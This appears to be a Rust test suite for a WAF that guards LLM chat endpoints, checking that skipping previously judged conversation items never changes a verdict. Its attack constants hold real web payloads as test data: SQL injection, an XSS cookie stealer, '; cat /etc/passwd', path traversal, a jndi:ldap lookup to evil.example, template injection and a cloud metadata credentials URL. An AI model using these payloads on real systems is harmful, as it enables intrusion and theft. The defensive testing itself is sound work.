//! A WAF steps over the conversation items it judged clean before (`waf::judged`): every
//! verdict must be the one a full reading gives, turn after turn of drawn agent
//! conversations with attacks put where a client can put them, among them items that
//! start like a judged one and differ after.

#[path = "support/rules_dir.rs"]
mod rules_dir;

use http::{HeaderMap, HeaderName, HeaderValue, Method};
use rampart_plugins::plugins::owasp::Waf;
use rampart_plugins::waf::stream::BodySegments;
use rampart_plugins::waf::Inspections;
use rampart_plugins::RequestView;
use rules_dir::{outside_request, RulesDir};
use serde_json::{json, Value};

fn wafs() -> [Waf; 2] {
    RulesDir::shipped().wafs("routes = { chat = \"llm\" }")
}

fn headers() -> HeaderMap {
    let mut h = HeaderMap::new();
    for (k, v) in [
        ("host", "llm.example.com"),
        ("user-agent", "OpenAI/Python 1.99.1"),
        ("content-type", "application/json"),
        ("accept", "application/json"),
    ] {
        h.insert(HeaderName::from_static(k), HeaderValue::from_static(v));
    }
    h
}

/// Each WAF's verdict on `body`, read whole: its score and the rules that count.
fn full_reading(wafs: &[Waf], headers: &HeaderMap, body: &[u8]) -> Vec<(u32, Vec<String>)> {
    let view = view(headers, body);
    wafs.iter().map(|w| verdict(w, &view)).collect()
}

/// The same, as a chain judges it: one inspection shared by the WAFs, which step over what
/// they judged clean before.
fn chain_reading(wafs: &[Waf], headers: &HeaderMap, body: &[u8]) -> Vec<(u32, Vec<String>)> {
    let shared = Inspections::default();
    let view = RequestView {
        inspections: Some(&shared),
        ..view(headers, body)
    };
    wafs.iter().map(|w| verdict(w, &view)).collect()
}

fn view<'a>(headers: &'a HeaderMap, body: &'a [u8]) -> RequestView<'a> {
    outside_request(
        "chat",
        &Method::POST,
        "/v1/chat/completions",
        None,
        headers,
        Some(body),
    )
}

fn verdict(waf: &Waf, view: &RequestView<'_>) -> (u32, Vec<String>) {
    let a = waf.assess(view);
    let mut ids: Vec<String> = a
        .matches
        .iter()
        .map(|(m, _)| waf.rules().rules[m.rule].id.clone())
        .collect();
    ids.sort();
    (a.score, ids)
}

/// A small deterministic generator (xorshift), so a failure names its seed.
struct Draw(u64);

impl Draw {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }
}

/// What a coding agent's prompts and tool results hold: source, shell output, links.
const PROSE: &[&str] = &[
    "fn main() {\n    println!(\"hello\");\n}\n",
    "let total: u64 = items.iter().map(|i| i.price).sum();",
    "$ cargo test -q\ntest result: ok. 12 passed; 0 failed\n",
    "See https://docs.rs/tokio/latest/tokio/ and http://localhost:8080/health for the probe.",
    "SELECT id, name FROM users WHERE id = $1; -- the query the handler runs",
    "if (a < b && c > d) { return \"<div>\" + x + \"</div>\"; }",
    "The build failed: error[E0382]: borrow of moved value: `conn`\n",
    "curl -s http://127.0.0.1:9090/metrics | grep rampart_",
    "Refactor the parser so that it reads the header once.",
    "import os\nprint(os.environ.get('HOME'))\n",
    "C:\\Users\\dev\\project\\src\\main.rs: line 10",
    "\u{3053}\u{3093}\u{306b}\u{3061}\u{306f} \u{2014} unicode in a comment \u{1f600}",
];

/// Attacks in fields that are not prose, and in links inside prose.
const ATTACKS: &[&str] = &[
    "' UNION SELECT password FROM users--",
    "<script>alert(document.cookie)</script>",
    "; cat /etc/passwd",
    "../../../../etc/shadow",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{{config.__class__.__init__.__globals__}}",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
];

const URL_ATTACKS: &[&str] = &[
    "https://evil.example/?q=<script>alert(1)</script>",
    "http://evil.example/${jndi:ldap://x.example/a}",
    "http://evil.example/a?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
];

fn prose(draw: &mut Draw, at_least: usize) -> String {
    let mut text = String::new();
    while text.len() < at_least {
        text.push_str(draw.pick(PROSE));
        text.push(' ');
    }
    text
}

/// A message of a drawn kind, about `size` bytes of prose, with an attack in it when
/// `attack` (in a field that is judged whole, or as a link in the prose).
fn message(draw: &mut Draw, turn: usize, size: usize, attack: bool) -> Value {
    let mut content = prose(draw, size);
    let mut m = match draw.below(3) {
        0 => json!({"role": "user", "content": content.clone()}),
        1 => json!({
            "role": "assistant",
            "content": null,
            "tool_calls": [{
                "id": format!("call_{turn}"),
                "type": "function",
                "function": {"name": "read_file", "arguments": json!({"path": "src/main.rs", "note": content.clone()}).to_string()}
            }]
        }),
        _ => {
            json!({"role": "tool", "tool_call_id": format!("call_{turn}"), "content": content.clone()})
        }
    };
    if attack {
        if draw.below(2) == 0 {
            m["name"] = Value::String(draw.pick(ATTACKS).to_string());
        } else {
            content.push_str(" see ");
            content.push_str(draw.pick(URL_ATTACKS));
            m["content"] = Value::String(content);
        }
    }
    m
}

fn body(messages: &[Value], tools: &Value) -> Vec<u8> {
    serde_json::to_vec(&json!({
        "model": "gpt-4o",
        "stream": true,
        "tools": tools,
        "messages": messages,
    }))
    .unwrap_or_default()
}

fn tools(draw: &mut Draw) -> Value {
    let tool = |name: &str, draw: &mut Draw| {
        json!({
            "type": "function",
            "function": {
                "name": name,
                "description": prose(draw, 1200),
                "parameters": {"type": "object", "properties": {"path": {"type": "string", "description": "a path"}}}
            }
        })
    };
    json!([tool("read_file", draw), tool("run_shell", draw)])
}

#[test]
fn stepping_over_judged_items_never_changes_a_verdict() {
    let wafs = wafs();
    let headers = headers();
    let mut refused = 0;
    for seed in 1..=12u64 {
        let mut draw = Draw(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15));
        let tools = tools(&mut draw);
        let mut conversation: Vec<Value> = Vec::new();
        for turn in 0..9 {
            let attack = draw.below(4) == 0;
            let size = 600 + draw.below(2500);
            conversation.push(message(&mut draw, turn, size, attack));
            let mut sent = conversation.clone();
            // Now and then, an earlier (likely judged) message altered after its lead: a
            // field added at its end, or its last text changed.
            if turn > 2 && draw.below(3) == 0 {
                let at = draw.below(turn - 1);
                let mut altered = sent[at].clone();
                altered["name"] = Value::String(draw.pick(ATTACKS).to_string());
                sent[at] = altered;
            }
            let b = body(&sent, &tools);
            let full = full_reading(&wafs, &headers, &b);
            let chained = chain_reading(&wafs, &headers, &b);
            assert_eq!(chained, full, "seed {seed}, turn {turn}");
            if full.iter().any(|(score, _)| *score >= 5) {
                refused += 1;
                // An attack is not judged clean by being sent again.
                for _ in 0..3 {
                    assert_eq!(chain_reading(&wafs, &headers, &b), full, "seed {seed}");
                }
            }
            if attack {
                // The attack stays in the conversation at every later turn.
                conversation.pop();
                conversation.push(message(&mut draw, turn, size, false));
            }
        }
    }
    assert!(refused > 10, "the drawn attacks were refused ({refused})");
    let stepped = wafs[0].judged_items().stepped_over();
    assert!(
        stepped > 100_000,
        "items were stepped over ({stepped} bytes)"
    );
}

/// A body past a window is cut in parts, and the reader that cuts it steps over the kept
/// items it finds, telling the WAFs where they lie (`RequestView::body_items`): each part's
/// verdicts must be those of the same part read without that help, and the items it names
/// must be the part's own bytes.
#[test]
fn items_located_by_the_body_cutter_give_the_verdicts_of_reading_them() {
    let wafs = wafs();
    let headers = headers();
    let (mut located, mut refused) = (0, 0);
    for seed in 21..=26u64 {
        let mut draw = Draw(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15));
        let tools = tools(&mut draw);
        let mut conversation: Vec<Value> = Vec::new();
        for turn in 0..8 {
            let attack = draw.below(4) == 0;
            let size = 1500 + draw.below(2500);
            conversation.push(message(&mut draw, turn, size, attack));
            let mut sent = conversation.clone();
            if turn > 2 && draw.below(3) == 0 {
                let at = draw.below(turn - 1);
                sent[at]["name"] = Value::String(draw.pick(ATTACKS).to_string());
            }
            let b = body(&sent, &tools);
            // Whole, as a small body is judged: its clean items become known.
            chain_reading(&wafs, &headers, &b);
            let mut cutter = BodySegments::new(b"application/json", "/v1/chat/completions", 0);
            let mut parts = Vec::new();
            for chunk in b.chunks(1000 + draw.below(3000)) {
                parts.extend(cutter.push(chunk).expect("JSON is cut"));
            }
            parts.extend(cutter.finish());
            for part in &parts {
                for item in part.located() {
                    let bytes = part.doc().get(item.at..item.at + item.item.len());
                    assert!(bytes.is_some_and(|b| b.starts_with(b"{")), "seed {seed}");
                }
                located += part.located().len();
                let helped = RequestView {
                    body_items: part.located(),
                    ..view(&headers, part.doc())
                };
                let shared = Inspections::default();
                let helped = RequestView {
                    inspections: Some(&shared),
                    ..helped
                };
                let with_help: Vec<_> = wafs.iter().map(|w| verdict(w, &helped)).collect();
                let unhelped = full_reading(&wafs, &headers, part.doc());
                assert_eq!(with_help, unhelped, "seed {seed}, turn {turn}");
                refused += usize::from(unhelped.iter().any(|(score, _)| *score >= 5));
            }
        }
    }
    assert!(located > 50, "the cutter located kept items ({located})");
    assert!(
        refused > 3,
        "drawn attacks were refused in parts ({refused})"
    );
}

/// A judged item sent again with an attack appended inside it (its first bytes, and all
/// but its last, the same) is read, not stepped over.
#[test]
fn a_judged_item_with_an_attack_inside_is_read() {
    let wafs = wafs();
    let headers = headers();
    let mut draw = Draw(77);
    let tools = tools(&mut draw);
    let clean: Vec<Value> = (0..4).map(|t| message(&mut draw, t, 3000, false)).collect();
    let b = body(&clean, &tools);
    for _ in 0..3 {
        assert!(chain_reading(&wafs, &headers, &b)
            .iter()
            .all(|(score, _)| *score == 0));
    }
    let before = wafs[0].judged_items().stepped_over();
    assert!(chain_reading(&wafs, &headers, &b)
        .iter()
        .all(|(s, _)| *s == 0));
    assert!(
        wafs[0].judged_items().stepped_over() >= before + b.len() as u64 / 2,
        "the clean conversation is stepped over"
    );
    for attack in ATTACKS {
        let item = serde_json::to_vec(&clean[1]).unwrap_or_default();
        // `{..."}` becomes `{...","name":"<attack>"}`: the same bytes but the last.
        let mut altered = item[..item.len() - 1].to_vec();
        altered.extend_from_slice(br#","name":"#);
        altered.extend_from_slice(&serde_json::to_vec(attack).unwrap_or_default());
        altered.push(b'}');
        let whole = String::from_utf8_lossy(&b).replace(
            &String::from_utf8_lossy(&item).into_owned(),
            &String::from_utf8_lossy(&altered),
        );
        assert_ne!(whole.as_bytes(), &b[..]);
        let full = full_reading(&wafs, &headers, whole.as_bytes());
        assert!(
            full.iter().any(|(score, _)| *score >= 5),
            "{attack:?} refused when read whole"
        );
        for _ in 0..3 {
            assert_eq!(chain_reading(&wafs, &headers, whole.as_bytes()), full);
        }
    }
    // The same item under another array is read the way that array is.
    let moved = serde_json::to_vec(&json!({
        "model": "gpt-4o",
        "tools": [clean[0].clone(), clean[1].clone()],
        "messages": [{"role": "user", "content": "hi"}],
    }))
    .unwrap_or_default();
    assert_eq!(
        chain_reading(&wafs, &headers, &moved),
        full_reading(&wafs, &headers, &moved)
    );
}

/// A size rule over an aggregate (the whole Cookie header) and each argument: matching the
/// first must not keep it from noting a body argument over the limit, or the item holding
/// that argument would be kept as clean and stepped over in a request without the cookie.
#[test]
fn a_size_limit_met_elsewhere_still_notes_the_body_argument_over_it() {
    let dir = std::env::temp_dir().join(format!("rampart-judged-sizes-{}", std::process::id()));
    std::fs::create_dir_all(dir.join("sizes")).expect("rules dir");
    std::fs::write(
        dir.join("sizes/size.toml"),
        r#"[group]
id = "size"

[[rule]]
id = "cookie_or_argument_too_long"
description = "a Cookie header or an argument over 400 bytes"
severity = "critical"
targets = ["cookies", "args"]
max_bytes = 400
"#,
    )
    .expect("rule file");
    let rules = RulesDir {
        dir: dir.clone(),
        ..RulesDir::shipped()
    };
    let waf = rules.waf("owasp", "rules = [\"sizes\"]\nroutes = { chat = \"llm\" }");
    let wafs = [waf];
    let mut with_cookie = headers();
    with_cookie.insert(
        "cookie",
        HeaderValue::from_str(&format!("s={}", "c".repeat(500))).expect("cookie"),
    );
    // `name` is not prose: an argument judged whole, over the limit.
    let long_name = "n".repeat(450);
    let item = |i: usize| {
        json!({"role": "user", "name": if i == 2 { long_name.clone() } else { format!("u{i}") },
            "content": format!("message {i} ").repeat(20)})
    };
    let messages: Vec<Value> = (0..4).map(item).collect();
    let b = serde_json::to_vec(&json!({"model": "m", "messages": messages})).unwrap_or_default();
    for _ in 0..3 {
        let v = chain_reading(&wafs, &with_cookie, &b);
        assert_eq!(v, full_reading(&wafs, &with_cookie, &b));
        assert!(
            v[0].0 >= 5,
            "refused: the cookie and the argument are too long"
        );
    }
    // Without the cookie, the long argument alone still refuses the request.
    for _ in 0..3 {
        let v = chain_reading(&wafs, &headers(), &b);
        assert_eq!(v, full_reading(&wafs, &headers(), &b));
        assert!(v[0].0 >= 5, "refused: the argument is too long");
    }
    let _ = std::fs::remove_dir_all(dir);
}
